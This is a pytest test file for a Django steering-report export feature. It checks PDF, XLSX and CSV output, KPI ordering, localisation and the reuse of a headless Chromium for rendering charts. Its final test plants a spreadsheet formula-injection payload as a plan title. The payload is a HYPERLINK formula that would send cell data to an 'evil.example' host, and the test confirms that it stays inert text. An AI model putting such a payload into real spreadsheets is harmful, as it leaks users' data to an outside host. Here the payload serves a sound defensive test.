"""The report's files: the PDF read back with pypdf (flagship, then every KPI for action before
every KPI for information, with the engine's figures; its charts drawn by the process's kept
Chromium as kaleido draws them), the XLSX (a sheet per section, numbers as numbers) and the CSV."""

import asyncio
import csv
import io
import os
import signal
import time
from pathlib import Path

import kaleido
import pytest
from django.urls import reverse
from openpyxl import load_workbook
from pypdf import PdfReader

from kpis.engine.rates import rates_read
from kpis.engine.readers import Reader
from kpis.engine.surveys import kpis_read
from kpis.engine.targets import Target
from steering.models import ActionPlan
from steering.reports import exports
from steering.reports.build import report_build
from steering.reports.figures import report_charts
from tests.steering import report_data
from tests.steering.report_data import M

pytestmark = pytest.mark.django_db


@pytest.fixture
def w():
    return report_data.build()


def _get(client, w, name, *, language="en", who="steering_b"):
    client.force_login(w[who])
    url = reverse(f"steering:{name}", kwargs={"org": "acme", "code": "sh-b", "period": "2026-03"})
    return client.get(url, HTTP_ACCEPT_LANGUAGE=language)


def test_the_pdf_keeps_the_order_and_the_engines_figures(client, w):
    """Read by an admin, who sees every rate (the steering member's copy hides T1's: below)."""
    response = _get(client, w, "report-pdf", who="admin")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"] == 'attachment; filename="report-sh-b-2026-03.pdf"'
    reader = PdfReader(io.BytesIO(response.content))
    # No-break spaces (before units, around "=") read as spaces.
    text = "\n".join(page.extract_text() for page in reader.pages).replace("\xa0", " ")
    # Each KPI's block opens with its code and the period: find them in the report's order.
    flagship = ["nps"]
    action = ["csat", "transformation_rate", "nps.journey=achat"]
    information = ["ces", "deployment_rate", "revenue"]
    starts = {code: text.index(f"{code} · March 2026") for code in flagship + action + information}
    assert max(starts[c] for c in flagship) < min(starts[c] for c in action)
    assert max(starts[c] for c in action) < min(starts[c] for c in information)
    assert text.index("Flagship KPI") < text.index("For action") < text.index("For information")
    ordered = sorted(starts, key=starts.get)

    def block(code):
        following = [starts[c] for c in ordered if starts[c] > starts[code]]
        return text[starts[code] : min(following, default=len(text))]

    t1 = [Target(w["tree"]["T1"])]
    (nps,) = kpis_read(org=w["org"], targets=t1, periods=[M])
    (journey,) = kpis_read(org=w["org"], targets=t1, periods=[M], filters={"journey": "achat"})
    (rates,) = rates_read(org=w["org"], targets=t1, periods=[M], reader=Reader.unrestricted())
    assert (nps["nps"], nps["csat"], nps["ces"], journey["nps"]) == (25.0, 50.0, 5.0, 66.6667)
    assert "25.0" in block("nps") and "16.3 pts" in block("nps") and "n = 100" in block("nps")
    assert "50.0 %" in block("csat")
    assert "66.7" in block("nps.journey=achat")
    assert "5.00" in block("ces")
    assert f"{100 * rates['transformation_rate']:.1f} %" in block("transformation_rate")
    assert f"{100 * rates['deployment_rate']:.1f} %" in block("deployment_rate")
    assert "1,000.00 €" in block("revenue")
    # The "what changed" sentence, before the sections.
    assert text.index("NPS rose by 75.0") < text.index("Flagship KPI")


def test_the_pdf_speaks_the_readers_language(client, w):
    text = "\n".join(
        p.extract_text() for p in PdfReader(io.BytesIO(_get(client, w, "report-pdf", language="fr").content)).pages
    )
    assert "nps · mars 2026" in text
    assert "25,0" in text


def _pdf_images(response) -> list[bytes]:
    return [image.data for page in PdfReader(io.BytesIO(response.content)).pages for image in page.images]


def test_two_pdfs_in_a_row_share_one_browser(client, w):
    """The second PDF starts no Chromium: its charts come from the browser process the first one
    used (or started), and they are the same images."""
    first = _get(client, w, "report-pdf", who="admin")
    pid, starts = exports.renderer.browser_pid, exports.renderer.starts
    second = _get(client, w, "report-pdf", who="admin")
    assert first.status_code == second.status_code == 200
    assert pid is not None
    assert (exports.renderer.browser_pid, exports.renderer.starts) == (pid, starts)
    images = _pdf_images(first)
    assert images and _pdf_images(second) == images


def test_a_browser_that_died_is_replaced(client, w):
    _get(client, w, "report-pdf")
    pid, starts = exports.renderer.browser_pid, exports.renderer.starts
    # The Chromium this test process started, under choreographer's wrapper (which then exits).
    chromium = int(Path(f"/proc/{pid}/task/{pid}/children").read_text().split()[0])
    os.kill(chromium, signal.SIGKILL)
    deadline = time.monotonic() + 20
    while exports.renderer.browser_pid is not None and time.monotonic() < deadline:
        time.sleep(0.05)
    response = _get(client, w, "report-pdf")
    assert response.status_code == 200 and _pdf_images(response)
    assert exports.renderer.browser_pid not in (None, pid)
    assert exports.renderer.starts == starts + 1


def test_the_kept_browser_draws_what_kaleido_draws(w):
    """The kept browser skips kaleido's page reload between charts: the PNGs are byte for byte those
    of a stock kaleido session, which reloads its page after each chart."""
    report = report_build(org=w["org"], stakeholder=w["b"], period=M, reader=Reader.unrestricted())
    figures = [exports._pdf_figure(c.figure) for c in report_charts(report, language="en").values() if c.figure]
    opts = {"format": "png", "width": exports.CHART_WIDTH, "height": exports.CHART_HEIGHT, "scale": exports.CHART_SCALE}

    async def stock():
        async with kaleido.Kaleido(n=1, mathjax=False) as k:
            return [await k.calc_fig(figure, opts=opts) for figure in figures]

    assert len(figures) >= 5
    assert exports.renderer.draw(figures, opts) == asyncio.run(stock())


def test_the_xlsx_has_a_sheet_per_section_and_numbers_as_numbers(client, w):
    response = _get(client, w, "report-xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Summary", "Flagship KPI", "For action", "For information", "Action plans"]
    sheet = book["For action"]
    header = [c.value for c in sheet[1]]
    rows = {r[header.index("Code")]: r for r in sheet.iter_rows(min_row=2, max_row=4, values_only=True)}
    csat = rows["csat"]
    assert csat[header.index("Value")] == 50.0
    assert csat[header.index("n")] == 100
    assert csat[header.index("95% margin of error")] == pytest.approx(9.8, abs=0.01)
    assert csat[header.index("Change vs previous")] == 0.0
    (rates,) = rates_read(org=w["org"], targets=[Target(w["tree"]["T1"])], periods=[M], reader=Reader.protected())
    transformation = rows["transformation_rate"]
    assert transformation[header.index("Value")] == rates["transformation_rate"]
    value_cell = next(r for r in sheet.iter_rows(min_row=2, max_row=4) if r[2].value == "transformation_rate")[4]
    assert value_cell.number_format == "0.0%"
    flagship = book["Flagship KPI"]
    assert flagship.cell(2, 3).value == "nps" and flagship.cell(2, 5).value == 25.0
    plans = book["Action plans"]
    assert [r[3] for r in plans.iter_rows(min_row=2, values_only=True)] == ["plan-t1-nps", "plan-t1-csat"]


def test_the_csv_has_a_row_per_kpi_and_period(client, w):
    response = _get(client, w, "report-csv", language="fr")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    header, body = rows[0], rows[1:]
    assert len(body) == 7 * 12
    assert len(header) == len(body[0])
    # Section, KPI, code, period, value… (the headers are in the reader's language).
    assert [r[2] for r in body[:12]] == ["nps"] * 12
    assert (body[11][3], body[11][4], body[11][6]) == ("2026-03", "25,0", "100")


def test_a_plan_title_that_looks_like_a_formula_stays_text_in_the_xlsx(client, w):
    title = '=HYPERLINK("https://evil.example/?"&A1,"Voir")'
    ActionPlan.objects.filter(pk=w["plan-t1-nps"].pk).update(title=title)
    book = load_workbook(io.BytesIO(_get(client, w, "report-xlsx").content))
    [cell] = [row[2] for row in book["Action plans"].iter_rows(min_row=2) if row[3].value == "plan-t1-nps"]
    assert (cell.value, cell.data_type) == (title, "s")
